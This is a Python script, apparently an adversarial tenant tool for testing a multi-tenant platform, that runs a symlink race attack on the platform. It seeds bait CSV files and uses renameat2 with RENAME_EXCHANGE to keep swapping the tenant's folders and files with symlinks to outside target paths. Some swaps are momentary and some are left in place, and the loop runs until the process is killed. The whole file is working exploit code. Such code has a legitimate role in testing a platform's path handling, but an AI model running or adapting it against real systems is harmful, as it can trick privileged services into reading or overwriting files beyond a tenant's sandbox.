"""A program that puts links in the place of everything it can write, as fast as it can: `python link_attacker.py FOLDER
TARGETS…`, a tenant's folder and places that are not its own. It goes on until it is killed."""

import ctypes
import os
import random
import sys
import time
from contextlib import suppress
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
HERE, EXCHANGE = -100, 2
MOST_FILES = 40


def main(root: Path, targets: list[str]) -> None:
    chance = random.Random(4)
    left: tuple[Path, Path] | None = None
    for number in range(1 << 30):
        with suppress(OSError):
            provide(root, number)
        names = [root / "in", root / "out", root / "log", root / "out" / "readings"]
        folder = root / chance.choice(("in", "out", "log"))
        with suppress(OSError):
            names += list(folder.iterdir()) if is_own(folder, root) else []
        for name in names:
            with suppress(OSError):
                if is_own(name.parent, root):
                    flip(name, chance.choice(targets), root / f".evil{number}", chance.random() / 500)
        if number % 20 == 19:
            # The platform finds a link when it is started again, or has made a new folder. The old one comes back after a
            # while: a file must lie in it for some seconds before it is taken.
            with suppress(OSError):
                if left is not None:
                    exchange(*left)
                    left = None
                else:
                    left = chance.choice(names[:3]), root / f".kept{number}"
                    leave(left[0], chance.choice(targets), left[1])


def is_own(path: Path, root: Path) -> bool:
    """No link of its own leads this program itself astray: what is changed elsewhere is the platform's doing."""
    return not any(above.is_symlink() for above in (path, *path.parents) if root in above.parents)


def provide(root: Path, number: int) -> None:
    """Something worth taking, in every folder."""
    for folder in ("in", "out", "log", "out/readings"):
        path = root / folder
        if is_own(path, root):
            path.mkdir(exist_ok=True)
            if len(os.listdir(path)) < MOST_FILES:
                (path / f".{number}").write_text("id\n1\n")
                (path / f".{number}").rename(path / f"{number}.csv")


def flip(name: Path, target: str, evil: Path, seconds: float) -> None:
    """For a moment the name is a link."""
    evil.symlink_to(target)
    try:
        exchange(name, evil)
        time.sleep(seconds)
        exchange(name, evil)
    finally:
        if evil.is_symlink():
            evil.unlink()


def leave(name: Path, target: str, aside: Path) -> None:
    aside.symlink_to(target)
    exchange(name, aside)


def exchange(one: Path, other: Path) -> None:
    if LIBC.renameat2(HERE, os.fsencode(one), HERE, os.fsencode(other), EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "exchange")


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2:])
